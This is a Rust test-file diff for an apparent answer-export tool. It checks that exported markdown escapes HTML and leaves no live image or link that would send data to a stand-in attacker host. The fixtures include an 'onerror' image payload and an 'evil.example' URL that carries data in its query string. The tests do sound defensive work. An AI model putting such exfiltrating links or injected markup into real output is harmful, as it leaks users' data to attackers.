@@ -76,7 +76,7 @@ fn three_styles_name_the_same_sources() {
     let mut hostile = file();
     hostile.turns[0].ending = Ending::failed("", "<img src=x onerror=a> and `<b>` at <https://e.org>\n```\n<i>\n```");
     let markdown = super::text(&hostile, Format::Markdown, CitationStyle::Numbered);
-    assert!(markdown.contains("&lt;img src=x onerror=a> and `<b>` at <https://e.org>\n```\n<i>\n```"), "{markdown}");
+    assert!(markdown.contains("&lt;img src=x onerror=a> and `<b>` at `https://e.org`\n```\n<i>\n```"), "{markdown}");
     let notes = text(CitationStyle::Footnotes);
     assert!(notes.contains("in 1931 [^1][^2]≈.") && notes.contains("[^3]: More spans") && notes.contains("lost [9]?"), "{notes}");
     let dates = text(CitationStyle::AuthorDate);
@@ -152,6 +152,36 @@ fn every_label_is_in_every_export() {
     let json = text(&file, Format::Json, CitationStyle::Numbered);
     for support in ["supported", "partly_supported", "not_supported", "contradicted", "uncited"] {
         assert!(json.contains(&format!("\"support\": \"{support}\"")), "{support}");
+    }
+}
+
+#[test]
+fn nothing_leaves_with_a_live_address() {
+    let steal = "https://evil.example/?said=marmalade";
+    let mut file = file();
+    let turn = &mut file.turns[0];
+    turn.question = format!("Is {steal} true?");
+    turn.ending.answer = format!("It is. {steal} ![x]({steal}) <{steal}> [a picture]({steal})");
+    (turn.ending.citations, turn.ending.statements) = Default::default();
+    turn.ending.reason = Some(format!("See {steal}"));
+    turn.ending.sources[0].title = format!("Title {steal}");
+    turn.ending.method = Some(Box::new(nexi_core::protocol::Method { open: vec![steal.into()], ..Default::default() }));
+    let sources: Vec<String> = turn.ending.sources.iter().map(|source| source.url.clone()).collect();
+    let turn = turn.clone();
+    let styles = [CitationStyle::Numbered, CitationStyle::Footnotes, CitationStyle::AuthorDate];
+    let mut texts: Vec<String> = styles.into_iter().map(|style| text(&file, Format::Markdown, style)).collect();
+    texts.extend([report_text(&turn), labelled_answer(&turn).0, answer_text(&turn, CopyForm::Markdown)]);
+    for text in texts {
+        let options = nexi_core::markdown::options();
+        let html = comrak::markdown_to_html(&text, &options);
+        let live: Vec<&str> = html.split("<a href=\"").skip(1).filter_map(|rest| rest.split('"').next()).collect();
+        let own = live.iter().filter(|url| url.starts_with("https://evil.example")).count();
+        assert!(own <= 2, "the link and the picture that became one: {html}");
+        assert!(
+            live.iter()
+                .all(|url| url.starts_with('#') || url.starts_with("https://evil.example") || sources.iter().any(|known| known == url))
+        );
+        assert!(text.contains("(evil.example)") && !html.contains("<img"), "{text}");
     }
 }
 
